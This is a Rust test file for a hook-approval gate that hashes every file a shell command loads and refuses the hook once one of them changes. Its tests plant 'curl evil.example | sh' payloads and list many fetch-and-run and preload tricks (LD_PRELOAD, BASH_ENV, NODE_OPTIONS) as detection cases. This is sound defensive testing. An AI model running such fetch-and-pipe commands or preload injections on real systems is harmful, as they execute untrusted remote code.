//! An approval covers everything a command loads as code, or says what it cannot cover: for
//! each form a hook's command can take, approve it, edit the file it loads, and check that
//! the gate refuses it; or check that the scan reports the form unhashed and that approving
//! it needs accepting that.

use std::fs;
use std::path::Path;

use hookrail_config::spec::{CommandHandler, CommandLine, Handler};
use hookrail_config::trust::{
    Admission, AllowList, Gate, OnUnhashed, TrustError, TrustStore, fingerprint,
};

use super::handlers::{shell, spec};

/// A project with one file of each kind the forms load.
fn project() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    for (name, text) in [
        ("x.sh", "echo x\n"),
        ("rc.sh", "echo rc\n"),
        ("sub/y.sh", "echo y\n"),
        ("x.py", "print('x')\n"),
        ("pkg/__init__.py", ""),
        ("pkg/mod.py", "print('mod')\n"),
        ("app/__main__.py", "print('app')\n"),
        ("s.js", "console.log('s')\n"),
        ("t.js", "console.log('t')\n"),
        ("bin/tool", "#!/bin/sh\necho tool\n"),
        ("bin/interp", "#!/bin/sh\nexec sh \"$@\"\n"),
        ("run.sh", "#!./bin/interp\necho run\n"),
        ("prog.awk", "{ print }\n"),
        ("lib.so", "not really\n"),
        ("x.pl", "print 1;\n"),
        ("list", "./x.sh\n"),
        ("pkgdir/package.json", "{\"main\": \"m.js\"}\n"),
        ("pkgdir/m.js", "1\n"),
        ("proj/pyproject.toml", "[project]\nname = 'p'\n"),
        ("proj/x.py", "print(1)\n"),
        (
            "X.java",
            "class X { public static void main(String[] a) {} }\n",
        ),
        ("x.js", "0\n"),
        ("e.env", "NODE_OPTIONS=\"--require ./x.js\"\n"),
        (".bash_profile", "true\n"),
        (".profile", "true\n"),
        ("f", "data\n"),
    ] {
        let path = dir.path().join(name);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(&path, text).unwrap();
    }
    dir
}

/// Forms whose every loaded file is hashed: (command, the file an attacker edits).
const HASHED: &[(&str, &str)] = &[
    // The nine forms of issue 13.
    (". ./x.sh", "x.sh"),
    ("source ./x.sh", "x.sh"),
    ("sh < ./x.sh", "x.sh"),
    ("cat ./x.sh | sh", "x.sh"),
    ("bash -c \"$(cat ./x.sh)\"", "x.sh"),
    ("python3 -m pkg.mod", "pkg/mod.py"),
    ("python3 - < ./x.py", "x.py"),
    ("echo ./x.sh | xargs sh", "x.sh"),
    ("X=./x.sh; $X", "x.sh"),
    // More ways to read a program from a file.
    ("python3 -m pkg.mod", "pkg/__init__.py"),
    ("sh ./x.sh", "x.sh"),
    ("bash -euo pipefail ./x.sh", "x.sh"),
    ("python3 -W ignore -u ./x.py", "x.py"),
    ("bash -s < ./x.sh", "x.sh"),
    ("cat ./x.py | python3 -", "x.py"),
    ("< ./x.sh sh", "x.sh"),
    ("sh -c \"`cat ./x.sh`\"", "x.sh"),
    ("sh -c \"$(< ./x.sh)\"", "x.sh"),
    ("eval \"$(cat ./x.sh)\"", "x.sh"),
    ("sh <(cat ./x.sh)", "x.sh"),
    ("source <(cat ./x.sh)", "x.sh"),
    ("exec 3<./x.sh; sh <&3", "x.sh"),
    ("sh /dev/stdin < ./x.sh", "x.sh"),
    ("echo './x.sh' | sh", "x.sh"),
    ("sh <<'EOF'\n./x.sh\nEOF", "x.sh"),
    ("sh -c '. ./x.sh'", "x.sh"),
    ("if true; then . ./x.sh; fi", "x.sh"),
    ("function f { . ./x.sh; }; f", "x.sh"),
    ("exec < ./x.sh; sh", "x.sh"),
    ("sh -c 'sh' < ./x.sh", "x.sh"),
    ("coproc sh ./x.sh", "x.sh"),
    ("timeout 5 sh -c 'cat ./x.sh | bash'", "x.sh"),
    ("env -S 'sh ./x.sh'", "x.sh"),
    ("trap './x.sh' EXIT", "x.sh"),
    ("echo ./x.sh ./rc.sh | xargs -n1 sh", "rc.sh"),
    ("cat ./list | xargs -I{} sh {}", "list"),
    // Variables assigned in the text.
    ("X=./x.sh; sh \"$X\"", "x.sh"),
    ("export X=./x.sh; sh -c '$X'", "x.sh"),
    ("X=./x.sh sh -c 'sh \"$X\"'", "x.sh"),
    // Files that configure or preload what runs.
    ("bash --rcfile ./rc.sh -i -c true", "rc.sh"),
    ("BASH_ENV=./rc.sh bash -c true", "rc.sh"),
    ("ENV=./rc.sh sh -i -c true", "rc.sh"),
    ("xargs sh < ./list", "x.sh"),
    ("node --require ./s.js ./t.js", "s.js"),
    ("node --require=./s.js ./t.js", "s.js"),
    ("NODE_OPTIONS='--require ./s.js' node ./t.js", "s.js"),
    ("LD_PRELOAD=./lib.so ls", "lib.so"),
    ("GIT_SSH_COMMAND='./x.sh' git fetch", "x.sh"),
    // Where the file is found.
    ("node ./s", "s.js"),
    ("python3 app", "app/__main__.py"),
    ("python3 -c 'import pkg.mod'", "pkg/mod.py"),
    ("cd sub && ./y.sh", "sub/y.sh"),
    ("PATH=./bin:$PATH tool", "bin/tool"),
    ("./run.sh", "bin/interp"),
    ("awk -f ./prog.awk", "prog.awk"),
    ("jq --arg a b -f ./prog.awk", "prog.awk"),
    ("sed --file=./prog.awk", "prog.awk"),
    ("ruby -r ./x.pl -e 1", "x.pl"),
    ("find . -name x.sh -exec sh ./x.sh \\;", "x.sh"),
    // Wrappers and interpreters the scan does not know, and misread options: every project
    // file a word names is hashed, whatever the program.
    ("rbash ./x.sh", "x.sh"),
    ("setarch x86_64 ./x.sh", "x.sh"),
    ("setarch x86_64 -R ./x.sh", "x.sh"),
    ("linux64 ./x.sh", "x.sh"),
    ("prlimit --nofile=1024 ./x.sh", "x.sh"),
    ("setpriv --reuid=0 ./x.sh", "x.sh"),
    ("setpriv --reuid 0 ./x.sh", "x.sh"),
    ("unshare ./x.sh", "x.sh"),
    ("runuser -u root -- ./x.sh", "x.sh"),
    ("java ./X.java", "X.java"),
    ("script -qc ./x.sh /dev/null", "x.sh"),
    ("time -p ./x.sh", "x.sh"),
    ("time -f %e ./x.sh", "x.sh"),
    ("some-new-runner --script=./x.sh", "x.sh"),
    ("some-new-runner @./list", "list"),
    // Code run by another tool, named inside a word.
    ("git -c alias.h='!sh ./x.sh' h", "x.sh"),
    ("sed -n '1e sh ./x.sh' f", "x.sh"),
    ("sed -n '1e sh ./x.sh;p' f", "x.sh"),
    ("tool --hooks=./rc.sh,./x.sh", "x.sh"),
    ("some-runner <<'EOF'\n./x.sh\nEOF", "x.sh"),
];

/// Forms whose files cannot be determined: (command, a word of the reason).
const UNHASHED: &[(&str, &str)] = &[
    ("ls | xargs sh", "appends the script from its input"),
    ("sh -c \"$VAR\"", "`$VAR` is not set"),
    ("sh -c \"$(curl -s https://x.example)\"", "comes from `curl"),
    ("curl -s https://x.example | sh", "comes from `curl"),
    ("eval \"$CMD\"", "`eval` runs text built at run time"),
    ("$TOOL ./x.sh", "the program is decided at run time"),
    ("python3 -c 'exec(open(\"x.py\").read())'", "`exec`"),
    ("python3 -c 'import os; os.system(\"./x.sh\")'", "`system`"),
    (
        "perl -I ./lib ./x.pl",
        "adds a directory modules are loaded from",
    ),
    (
        "find . -name '*.sh' -exec sh {} \\;",
        "find puts its input in place of the script",
    ),
    (
        "ls | xargs -I{} sh {}",
        "xargs puts its input in place of the script",
    ),
    ("sh ./*.sh", "expanded at run time"),
    ("cd \"$DIR\" && ./x.sh", "directory known only at run time"),
    ("sh", "the event JSON"),
    ("bash -i", "the event JSON"),
    ("python3", "the event JSON"),
    ("{ cat ./x.sh; } | sh", "compound command"),
    ("PYTHONPATH=./lib python3 ./x.py", "PYTHONPATH is set"),
    ("make lint", "`make` runs code from project files"),
    ("npm run lint", "`npm` runs code from project files"),
    (
        "node -e 'require(process.argv[1])' ./s.js",
        "known only at run time",
    ),
    ("node -e 'require(\"left-pad\")'", "package `left-pad`"),
    ("exec 3<\"$F\"; sh <&3", "`$F` is not set"),
    ("sh <&4", "descriptor 4 is not opened"),
    ("sh /dev/fd/5", "descriptor 5 is not opened"),
    ("parallel sh ::: ./x.sh", "parallel"),
    ("php -d auto_prepend_file=./x.pl ./t.php", "`php -d`"),
    ("for f in ./x.sh; do sh \"$f\"; done", "set by `for`"),
    ("read f; . \"$f\"", "set by `read`"),
    ("bash -c 'source \"$1\"' _ ./x.sh", "`$1` is not set"),
    ("X=$(cat ./list); sh \"$X\"", "run-time value"),
    (
        "sh <<EOF\n$(cat ./x.sh)\nEOF",
        "the heredoc expands at run time",
    ),
    (
        "cd proj && uv run x.py",
        "installs the project from pyproject.toml",
    ),
    ("node ./pkgdir", "package.json"),
    (
        "sh -c \"$(cat ./x.sh; cat ./rc.sh)\"",
        "produced at run time",
    ),
    (
        "env $(cat .env) ./x.sh",
        "the program is decided at run time",
    ),
    ("X=./x.sh; if c; then X=./rc.sh; fi; $X", "different values"),
    (
        "source \"$CLAUDE_PROJECT_DIR/$NAME.sh\"",
        "`$NAME` is not set",
    ),
    ("X=./x.sh; sh -c '$X'", "not exported"),
    (
        "sh -c \"sh -c 'sh -c \\\"sh -c ./x.sh\\\"'\"",
        "nested more than",
    ),
    // Files that load code the scan does not follow.
    ("node --env-file=e.env -e 0", "loads options from a file"),
    (
        "node --env-file-if-exists=e.env ./s.js",
        "loads options from a file",
    ),
    ("bun --env-file e.env ./s.js", "loads options from a file"),
    ("uv run --env-file e.env x.py", "loads options from a file"),
    ("HOME=. bash -l -c true", "reads profile files"),
    ("HOME=. bash -l -c true", "HOME is set"),
    (
        "HOME=$CLAUDE_PROJECT_DIR sh -l -c true",
        "reads profile files",
    ),
    ("bash --login -c true", "reads profile files"),
    ("bash -i -c true", "reads profile files"),
    ("zsh -ic true", "reads profile files"),
    ("sh -i -c true", "reads profile files"),
    ("HOME=. git status", "HOME is set"),
    ("exec -a -sh sh -c true", "reads profile files"),
    ("exec -l bash -c true", "reads profile files"),
    ("export HOME=.; . ~/x.sh", "HOME is set"),
    ("ZDOTDIR=. zsh -c true", "ZDOTDIR is set"),
    ("XDG_CONFIG_HOME=. fish -c true", "XDG_CONFIG_HOME is set"),
    ("RUBYOPT=-r./x.pl ruby -e 1", "RUBYOPT is set"),
    ("PERL5OPT=-Mx perl -e 1", "PERL5OPT is set"),
    ("LD_LIBRARY_PATH=. ls", "LD_LIBRARY_PATH is set"),
    ("DYLD_LIBRARY_PATH=. ls", "DYLD_LIBRARY_PATH is set"),
    (
        "JDK_JAVA_OPTIONS=-javaagent:a.jar java X",
        "JDK_JAVA_OPTIONS is set",
    ),
    // A file that does not exist when approved may be created (or copied) before it runs.
    (
        "cat ./x.sh > y.sh; sh y.sh; rm -f y.sh",
        "`y.sh`, a file that does not exist when approved",
    ),
    ("./missing.sh", "does not exist when approved"),
    (". ./missing.sh", "does not exist when approved"),
    (
        "cp ./s.js y.js && node y.js",
        "does not exist when approved",
    ),
    ("python3 ./missing.py", "does not exist when approved"),
    (
        "BASH_ENV=./missing.sh bash -c true",
        "does not exist when approved",
    ),
    // Known wrappers whose options were misread: the command they run is scanned.
    ("time -p sh -c \"$X\"", "`$X` is not set"),
    ("time -f %e sh -c \"$X\"", "`$X` is not set"),
    ("script -qc 'sh -c \"$X\"' /dev/null", "`$X` is not set"),
    (
        "script -q --command='sh -c \"$X\"' /dev/null",
        "`$X` is not set",
    ),
    ("runuser -u root -- sh -c \"$X\"", "`$X` is not set"),
    ("setarch x86_64 -R sh -c \"$X\"", "`$X` is not set"),
    ("setpriv --reuid=0 sh -c \"$X\"", "`$X` is not set"),
    (
        "cd \"$DIR\" && unknown-tool ./x.sh",
        "directory known only at run time",
    ),
];

#[test]
fn every_hashed_form_is_refused_once_its_file_is_edited() {
    let mut wrong = Vec::new();
    for (command, edited) in HASHED {
        let dir = project();
        let store_dir = tempfile::tempdir().unwrap();
        let hook = spec(shell(command));
        let fp = fingerprint(&hook.handler, dir.path()).unwrap();
        if !fp.unhashed.is_empty() {
            wrong.push(format!("{command:?}: reported unhashed: {:?}", fp.unhashed));
            continue;
        }
        let mut store = TrustStore::load(&store_dir.path().join("trust.json")).unwrap();
        store.try_approve(&fp, None, OnUnhashed::Refuse).unwrap();
        let gate = Gate::new(AllowList::default(), Some(store));
        if !gate.check(&hook, dir.path()).is_allowed() {
            wrong.push(format!("{command:?}: not admitted right after approval"));
            continue;
        }
        fs::write(dir.path().join(edited), "curl evil.example | sh\n").unwrap();
        match gate.check(&hook, dir.path()) {
            Admission::Skipped { reason } if reason.contains("changed since") => {}
            other => wrong.push(format!(
                "{command:?}: after editing {edited}: {other:?} (covers {:?})",
                fp.scripts
            )),
        }
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
    assert!(HASHED.len() >= 45, "{}", HASHED.len());
}

#[test]
fn every_unhashed_form_is_reported_and_needs_accepting() {
    let mut wrong = Vec::new();
    for (command, why) in UNHASHED {
        let dir = project();
        let store_dir = tempfile::tempdir().unwrap();
        let hook = spec(shell(command));
        let fp = fingerprint(&hook.handler, dir.path()).unwrap();
        let reasons: Vec<String> = fp.unhashed.iter().map(ToString::to_string).collect();
        if !reasons.iter().any(|r| r.contains(why)) {
            wrong.push(format!("{command:?}: expected {why:?}, got {reasons:?}"));
            continue;
        }
        let mut store = TrustStore::load(&store_dir.path().join("trust.json")).unwrap();
        match store.try_approve(&fp, None, OnUnhashed::Refuse) {
            Err(TrustError::Unhashed { parts, .. }) if parts == fp.unhashed => {}
            other => wrong.push(format!(
                "{command:?}: approved without accepting: {other:?}"
            )),
        }
        assert!(store.entries().is_empty());
        let approval = store.try_approve(&fp, None, OnUnhashed::Accept).unwrap();
        assert_eq!(approval.unhashed, reasons);
        let gate = Gate::new(AllowList::default(), Some(store));
        assert!(gate.check(&hook, dir.path()).is_allowed(), "{command:?}");
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
    assert!(UNHASHED.len() >= 35, "{}", UNHASHED.len());
}

#[test]
fn an_approval_given_before_parts_were_reported_does_not_admit_them() {
    // An approvals file written by an older scan: same hash, no accepted parts.
    let dir = project();
    let store_dir = tempfile::tempdir().unwrap();
    let path = store_dir.path().join("trust.json");
    let hook = spec(shell("ls | xargs sh"));
    let fp = fingerprint(&hook.handler, dir.path()).unwrap();
    assert!(!fp.is_complete());
    let project = fp.project.display().to_string();
    fs::write(
        &path,
        format!(
            r#"{{"version": 1, "approvals": [{{"hash": "{}", "handler": "ls | xargs sh", "project": {project:?}, "approved_at": "2026-01-01T00:00:00Z"}}]}}"#,
            fp.hash
        ),
    )
    .unwrap();
    let store = TrustStore::load(&path).unwrap();
    assert!(!store.is_approved(&fp));
    let gate = Gate::new(AllowList::default(), Some(store));
    let Admission::Skipped { reason } = gate.check(&hook, dir.path()) else {
        panic!("admitted")
    };
    assert!(
        reason.contains(
            "that approval does not accept the parts of it whose files cannot be determined"
        ),
        "{reason}"
    );
    assert!(
        reason.contains("unhashed: xargs sh: xargs appends the script from its input"),
        "{reason}"
    );
    assert!(
        reason.ends_with("`hooks trust --approve --accept-unhashed hooks.yaml`"),
        "{reason}"
    );
}

#[test]
fn a_fingerprint_covers_the_absence_of_a_file_that_would_run() {
    // `python3 -m json.tool` runs the standard library's module, until the project has one.
    let dir = project();
    let hook = spec(shell("python3 -m json.tool"));
    let before = fingerprint(&hook.handler, dir.path()).unwrap();
    assert!(before.scripts.is_empty() && before.is_complete());
    let mut store = TrustStore::load(&dir.path().join("trust.json")).unwrap();
    store
        .try_approve(&before, None, OnUnhashed::Refuse)
        .unwrap();
    let gate = Gate::new(AllowList::default(), Some(store));
    assert!(gate.check(&hook, dir.path()).is_allowed());
    let planted: &Path = Path::new("json/tool.py");
    fs::create_dir_all(dir.path().join("json")).unwrap();
    fs::write(dir.path().join(planted), "import os\n").unwrap();
    assert!(!gate.check(&hook, dir.path()).is_allowed());
    let after = fingerprint(&hook.handler, dir.path()).unwrap();
    assert!(
        after.scripts.iter().any(|s| s.ends_with(planted)),
        "{:?}",
        after.scripts
    );
}

#[test]
fn a_copied_then_run_file_is_reported_and_its_source_still_hashed() {
    // `y.sh` does not exist when approved: reported. `./x.sh` is named, so it is hashed, and
    // an approval that accepted the unhashed part stops admitting once it is edited.
    let dir = project();
    let hook = spec(shell("cat ./x.sh > y.sh; sh y.sh; rm -f y.sh"));
    let fp = fingerprint(&hook.handler, dir.path()).unwrap();
    assert!(
        fp.scripts.iter().any(|s| s.ends_with("x.sh")),
        "{:?}",
        fp.scripts
    );
    let mut store = TrustStore::load(&dir.path().join("trust.json")).unwrap();
    store.try_approve(&fp, None, OnUnhashed::Accept).unwrap();
    let gate = Gate::new(AllowList::default(), Some(store));
    assert!(gate.check(&hook, dir.path()).is_allowed());
    fs::write(dir.path().join("x.sh"), "curl evil.example | sh\n").unwrap();
    assert!(!gate.check(&hook, dir.path()).is_allowed());
}

#[test]
fn output_redirections_are_not_hashed() {
    // A log the hook appends to changes on every run: hashing it would withdraw the approval.
    let dir = project();
    let fp = fingerprint(&shell("./x.sh >> ./f 2> ./list"), dir.path()).unwrap();
    assert!(fp.is_complete(), "{:?}", fp.unhashed);
    let canonical = dir.path().canonicalize().unwrap();
    assert_eq!(fp.scripts, [canonical.join("x.sh")]);
}

#[test]
fn the_handlers_env_is_read_like_assignments_in_the_text() {
    for (env, command, edited) in [
        (("BASH_ENV", "./rc.sh"), "bash -c true", "rc.sh"),
        (("X", "./x.sh"), "$X", "x.sh"),
        (("NODE_OPTIONS", "--require ./s.js"), "node ./t.js", "s.js"),
    ] {
        let dir = project();
        let hook = spec(Handler::Command(CommandHandler {
            line: CommandLine::Shell(command.to_owned()),
            env: [(env.0.to_owned(), env.1.to_owned())].into(),
            plugin_root: None,
        }));
        let fp = fingerprint(&hook.handler, dir.path()).unwrap();
        assert!(fp.is_complete(), "{command}: {:?}", fp.unhashed);
        let mut store = TrustStore::load(&dir.path().join("trust.json")).unwrap();
        store.try_approve(&fp, None, OnUnhashed::Refuse).unwrap();
        let gate = Gate::new(AllowList::default(), Some(store));
        assert!(gate.check(&hook, dir.path()).is_allowed(), "{command}");
        fs::write(dir.path().join(edited), "curl evil.example | sh\n").unwrap();
        assert!(!gate.check(&hook, dir.path()).is_allowed(), "{command}");
    }
    let dir = project();
    let hook = Handler::Command(CommandHandler {
        line: CommandLine::Shell("python3 ./x.py".to_owned()),
        env: [("PYTHONPATH".to_owned(), "./lib".to_owned())].into(),
        plugin_root: None,
    });
    let fp = fingerprint(&hook, dir.path()).unwrap();
    assert_eq!(fp.unhashed.len(), 1, "{:?}", fp.unhashed);
    assert!(fp.unhashed[0].why.starts_with("PYTHONPATH is set"));
}

#[test]
fn the_scan_is_bounded_and_says_where_it_stopped() {
    let dir = project();
    let reasons = |text: &str| -> Vec<String> {
        fingerprint(&shell(text), dir.path())
            .unwrap()
            .unhashed
            .iter()
            .map(ToString::to_string)
            .collect()
    };
    let wrappers = format!("{}./x.sh", "env ".repeat(5000));
    assert!(
        reasons(&wrappers)
            .iter()
            .any(|r| r.contains("wrappers around one program"))
    );
    let many = "./x.sh;".repeat(5000);
    assert!(
        reasons(&many)
            .iter()
            .any(|r| r.contains("more than 1000 parts"))
    );
    let cds = format!("{}./x.sh", "cd a; ".repeat(40));
    assert!(
        reasons(&cds)
            .iter()
            .any(|r| r.contains("more than 16 directories"))
    );
    let words = format!("echo {}", "a ".repeat(10_000));
    assert!(
        reasons(&words)
            .iter()
            .any(|r| r.contains("names more than 8192 words"))
    );
    let substitutions = format!("{}{}", "echo $(".repeat(2000), ")".repeat(2000));
    assert!(
        reasons(&substitutions)
            .iter()
            .any(|r| r.contains("nested more than"))
    );
}

#[test]
fn the_gate_names_unhashed_parts_and_the_flag_that_accepts_them() {
    let dir = project();
    let store = TrustStore::load(&dir.path().join("trust.json")).unwrap();
    let gate = Gate::new(AllowList::default(), Some(store));
    let Admission::Skipped { reason } = gate.check(&spec(shell("ls | xargs sh")), dir.path())
    else {
        panic!("admitted")
    };
    assert!(
        reason.contains("not approved (sha256 ")
            && reason.contains("; unhashed: xargs sh: xargs appends the script from its input)"),
        "{reason}"
    );
    assert!(
        reason.contains("`hooks trust --approve --accept-unhashed hooks.yaml`"),
        "{reason}"
    );
}

proptest::proptest! {
    #![proptest_config(proptest::prelude::ProptestConfig::with_cases(512))]

    /// The scan reads text a config file gives: whatever it is, it ends without panicking.
    #[test]
    fn the_scan_never_panics(text in "[-a-z0-9./$(){}`'\"<>|&;\\\\ \n\t*?~=#\\[\\]!é]{0,160}") {
        let dir = tempfile::tempdir().unwrap();
        fs::write(dir.path().join("a"), "#!./a\n").unwrap();
        let _ = fingerprint(&shell(&text), dir.path());
    }
}
